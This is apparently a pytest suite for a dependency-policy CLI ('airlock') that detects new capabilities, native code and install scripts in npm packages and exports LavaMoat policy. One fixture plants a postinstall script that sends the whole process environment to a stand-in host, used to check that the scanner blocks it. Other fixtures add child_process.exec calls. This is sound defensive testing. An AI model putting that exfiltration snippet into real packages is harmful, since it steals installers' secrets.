"""`airlock policy init/check/export/scripts` through the console entry point, on a project whose
packages the loopback registry serves; each drift case changes one published package and its lock entry."""

from __future__ import annotations

import json

import pytest

from tests.policy.app import CALM, READER, Project, policy_cmd
from tests.policy.schema import assert_valid_policy


def test_init_writes_the_observed_grants_with_install_scripts_off(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = policy_cmd(["init", "app"], monkeypatch, capsys)
    assert code == 0, err
    assert out.startswith("wrote app/airlock-policy.json: 3 packages"), out
    text = (project.root / "airlock-policy.json").read_text()
    assert_valid_policy(text)
    assert project.policy == {
        "version": 1,
        "resources": {
            "reader>calm": {},
            "reader": {"builtin": {"fs.readFileSync": True}},
            # binding.gyp: npm runs `node-gyp rebuild` at install, and the package builds native code.
            "gyp": {"native": True},
        },
        "allowScripts": {"gyp#1.0.0": False},
    }
    # Deterministic bytes: a second init (forced) writes the same file.
    code, _, _ = policy_cmd(["init", "app", "--force"], monkeypatch, capsys)
    assert code == 0
    assert (project.root / "airlock-policy.json").read_text() == text


def test_init_refuses_to_overwrite(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert policy_cmd(["init", "app"], monkeypatch, capsys)[0] == 0
    code, out, err = policy_cmd(["init", "app"], monkeypatch, capsys)
    assert code == 2 and out == ""
    assert "airlock-policy.json already exists" in err
    assert "policy check --update" in err and "--force" in err


def test_check_passes_on_an_unchanged_tree(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    policy_cmd(["init", "app"], monkeypatch, capsys)
    code, out, _ = policy_cmd(["check", "app"], monkeypatch, capsys)
    assert code == 0, out
    assert out.startswith("policy check: 3 packages, 0 exceed their grants, 0 narrowed"), out


def test_check_without_a_policy_says_how_to_make_one(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = policy_cmd(["check", "app"], monkeypatch, capsys)
    assert code == 2
    assert "airlock-policy.json does not exist" in err and "airlock policy init" in err


def test_an_invalid_policy_is_bad_input(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (project.root / "airlock-policy.json").write_text(
        '{"version": 1, "resources": {"a": {"builtin": {"fs": "yes"}}}}'
    )
    code, _, err = policy_cmd(["check", "app"], monkeypatch, capsys)
    assert code == 2
    assert 'resources["a"].builtin["fs"] is "yes", not true or false' in err


def test_new_builtin_exceeds_with_evidence_and_the_accepting_line(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    policy_cmd(["init", "app"], monkeypatch, capsys)
    files = {"index.js": READER["index.js"] + "require('child_process').exec('id')\n"}
    project.publish("reader", "1.0.1", files, {"calm": "1.0.0"})
    code, out, err = policy_cmd(["check", "app"], monkeypatch, capsys)
    assert code == 1, out + err
    assert "✗ reader@1.0.1 exceeds its grants:" in out
    assert "  + builtin child_process.exec" in out
    assert "index.js:3  require('child_process').exec('id')" in out
    assert 'accept: resources["reader"]["builtin"]["child_process.exec"]: true' in out


def test_new_native_code_exceeds(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    policy_cmd(["init", "app"], monkeypatch, capsys)
    project.publish("calm", "1.0.1", {**CALM, "build/Release/calm.node": b"\x7fELF\x02\x01\x01" + bytes(64)})
    project.publish("reader", "1.0.0", READER, {"calm": "1.0.1"})
    code, out, _ = policy_cmd(["check", "app"], monkeypatch, capsys)
    assert code == 1, out
    assert 'accept: resources["reader>calm"]["native"]: true' in out


def test_new_install_script_exceeds_and_update_records_it_kept_off(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    policy_cmd(["init", "app"], monkeypatch, capsys)
    project.publish("calm", "1.0.1", CALM, scripts={"postinstall": "node setup.js"})
    project.publish("reader", "1.0.0", READER, {"calm": "1.0.1"})
    code, out, _ = policy_cmd(["check", "app"], monkeypatch, capsys)
    assert code == 1, out
    assert '"postinstall": node setup.js' in out
    assert 'accept: allowScripts["reader>calm#1.0.1"]: false' in out
    code, out, _ = policy_cmd(["check", "app", "--update"], monkeypatch, capsys)
    assert code == 0, out
    assert project.policy["allowScripts"] == {"reader>calm#1.0.1": False, "gyp#1.0.0": False}
    assert policy_cmd(["check", "app"], monkeypatch, capsys)[0] == 0


def test_removed_capability_is_reported_not_an_error_and_update_shrinks(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    policy_cmd(["init", "app"], monkeypatch, capsys)
    project.publish("reader", "1.0.1", CALM, {"calm": "1.0.0"})
    code, out, _ = policy_cmd(["check", "app"], monkeypatch, capsys)
    assert code == 0, out
    assert "reader (reader@1.0.1): builtin fs.readFileSync is no longer used" not in out  # title is the label
    assert (
        'reader@1.0.1: builtin fs.readFileSync is no longer used: resources["reader"]["builtin"]["fs.readFileSync"]: true'
        in out
    )
    code, out, _ = policy_cmd(["check", "app", "--update"], monkeypatch, capsys)
    assert code == 0
    assert project.policy["resources"]["reader"] == {}


def test_update_accepts_every_excess_and_never_touches_the_override(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    policy_cmd(["init", "app"], monkeypatch, capsys)
    override = project.root / "airlock-policy-override.json"
    override.write_text('{"version": 1, "resources": {"reader>calm": {"builtin": {"os": true}}}}\n')
    before = override.read_bytes()
    files = {"index.js": READER["index.js"] + "require('net').connect(1)\n"}
    project.publish("reader", "1.0.1", files, {"calm": "1.0.0"})
    code, out, _ = policy_cmd(["check", "app", "--update"], monkeypatch, capsys)
    assert code == 0, out
    assert "updated app/airlock-policy.json" in out
    assert project.policy["resources"]["reader"]["builtin"] == {"fs.readFileSync": True, "net.connect": True}
    assert override.read_bytes() == before
    # calm's override grant is unused: reported as narrowed, but only the override has it, so it stays.
    code, out, _ = policy_cmd(["check", "app"], monkeypatch, capsys)
    assert code == 0
    assert "reader>calm (calm@1.0.0): builtin os is no longer used" in out
    assert override.read_bytes() == before


def test_override_false_denies_without_failing_and_true_widens(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (project.root / "airlock-policy.json").write_text(
        '{"version": 1, "resources": {"reader>calm": {}, "gyp": {"native": true}, "reader": {}},'
        ' "allowScripts": {"gyp#1.0.0": false}}\n'
    )
    code, out, _ = policy_cmd(["check", "app"], monkeypatch, capsys)
    assert code == 1 and 'resources["reader"]["builtin"]["fs.readFileSync"]: true' in out
    override = project.root / "airlock-policy-override.json"
    override.write_text('{"version": 1, "resources": {"reader": {"builtin": {"fs": true}}}}')
    assert policy_cmd(["check", "app"], monkeypatch, capsys)[0] == 0
    override.write_text('{"version": 1, "resources": {"reader": {"builtin": {"fs": false}}}}')
    code, out, _ = policy_cmd(["check", "app"], monkeypatch, capsys)
    assert code == 0, out
    assert "denied by the policy" in out and "reader@1.0.0: builtin fs.readFileSync  index.js:2" in out


def test_new_package_not_in_the_policy_is_an_excess(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    policy_cmd(["init", "app"], monkeypatch, capsys)
    project.publish("netty", "1.0.0", {"index.js": "require('https').get('https://example.com/')"})
    project.publish("reader", "1.0.1", READER, {"calm": "1.0.0", "netty": "1.0.0"})
    code, out, _ = policy_cmd(["check", "app"], monkeypatch, capsys)
    assert code == 1
    assert "✗ reader>netty (netty@1.0.0) exceeds its grants (not in the policy):" in out
    policy_cmd(["check", "app", "--update"], monkeypatch, capsys)
    assert project.policy["resources"]["reader>netty"] == {"builtin": {"https.get": True}}


def test_new_dependency_and_new_global_exceed_with_their_lines(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # The flatmap-stream shape: a patch release starts loading a new dependency and reading the environment.
    policy_cmd(["init", "app"], monkeypatch, capsys)
    assert "packages" not in project.policy["resources"]["reader"]
    project.publish("helper", "1.0.0", {"index.js": "module.exports = (x) => x"})
    code_js = READER["index.js"] + "const h = require('helper')\nmodule.exports.home = h(process.env.HOME)\n"
    project.publish("reader", "1.0.1", {"index.js": code_js}, {"calm": "1.0.0", "helper": "1.0.0"})
    code, out, _ = policy_cmd(["check", "app"], monkeypatch, capsys)
    assert code == 1, out
    assert "  + dependency reader>helper" in out
    assert 'accept: resources["reader"]["packages"]["reader>helper"]: true' in out
    assert "  + global process.env.HOME" in out
    assert "index.js:4  module.exports.home = h(process.env.HOME)" in out
    assert 'accept: resources["reader"]["globals"]["process.env.HOME"]: true' in out
    policy_cmd(["check", "app", "--update"], monkeypatch, capsys)
    assert project.policy["resources"]["reader"]["packages"] == {"reader>helper": True}
    assert policy_cmd(["check", "app"], monkeypatch, capsys)[0] == 0


def test_json_format(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    policy_cmd(["init", "app"], monkeypatch, capsys)
    project.publish("reader", "1.0.1", {"index.js": "require('dns').lookup('x')"}, {"calm": "1.0.0"})
    code, out, _ = policy_cmd(["check", "app", "--format", "json"], monkeypatch, capsys)
    assert code == 1
    data = json.loads(out)
    (reader,) = [p for p in data["packages"] if p["name"] == "reader"]
    assert reader["excesses"][0]["pointer"] == "/resources/reader/builtin/dns.lookup"
    assert reader["excesses"][0]["evidence"][0]["file"] == "index.js"
    assert reader["narrowings"][0]["key"] == "fs.readFileSync"


def test_export_writes_lavamoat_files(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    policy_cmd(["init", "app"], monkeypatch, capsys)
    code, out, _ = policy_cmd(["export", "--lavamoat", "app"], monkeypatch, capsys)
    assert code == 0, out
    exported = json.loads((project.root / "lavamoat" / "node" / "policy.json").read_text())
    assert exported["resources"]["reader"] == {
        "builtin": {"fs.readFileSync": True, "node:fs.readFileSync": True}
    }
    assert set(exported) == {"resources"}
    assert json.loads((project.root / "lavamoat" / "node" / "policy-override.json").read_text()) == {
        "resources": {}
    }
    assert "allowScripts is not part of LavaMoat's policy" in out


def test_export_needs_a_format(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = policy_cmd(["export", "app"], monkeypatch, capsys)
    assert code == 2 and "--lavamoat" in err


def test_scripts_lists_install_code_and_accept_benign_allows_it(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    policy_cmd(["init", "app"], monkeypatch, capsys)
    code, out, _ = policy_cmd(["scripts", "app"], monkeypatch, capsys)
    assert code == 0
    assert "gyp@1.0.0: kept off · analysis: allow" in out
    assert "    install: node-gyp rebuild" in out
    assert "--accept-benign` sets gyp#1.0.0: true" in out
    code, out, _ = policy_cmd(["scripts", "app", "--accept-benign"], monkeypatch, capsys)
    assert code == 0
    assert 'allowScripts["gyp#1.0.0"]: true' in out
    assert project.policy["allowScripts"] == {"gyp#1.0.0": True}
    assert policy_cmd(["check", "app"], monkeypatch, capsys)[0] == 0


def test_scripts_with_findings_are_not_accepted(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    payload = "require('https').get('https://x.example.com/?t=' + JSON.stringify(process.env))"
    project.publish("calm", "1.0.1", {**CALM, "setup.js": payload}, scripts={"postinstall": "node setup.js"})
    project.publish("reader", "1.0.0", READER, {"calm": "1.0.1"})
    policy_cmd(["init", "app"], monkeypatch, capsys)
    code, out, _ = policy_cmd(["scripts", "app", "--accept-benign"], monkeypatch, capsys)
    assert code == 0
    assert "reader>calm (calm@1.0.1): kept off · analysis: block" in out
    assert project.policy["allowScripts"]["reader>calm#1.0.1"] is False


def test_export_warns_when_an_override_refusal_has_no_effect_under_lavamoat(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    policy_cmd(["init", "app"], monkeypatch, capsys)
    policy = project.policy
    policy["resources"]["reader"]["builtin"] = {"fs": True}
    (project.root / "airlock-policy.json").write_text(json.dumps(policy))
    (project.root / "airlock-policy-override.json").write_text(
        '{"version": 1, "resources": {"reader": {"builtin": {"fs.readFileSync": false}}}}'
    )
    code, _, err = policy_cmd(["export", "--lavamoat", "app"], monkeypatch, capsys)
    assert code == 0
    assert 'resources["reader"]["builtin"]["fs.readFileSync"]: false has no effect' in err
    assert 'refuse "fs" instead' in err
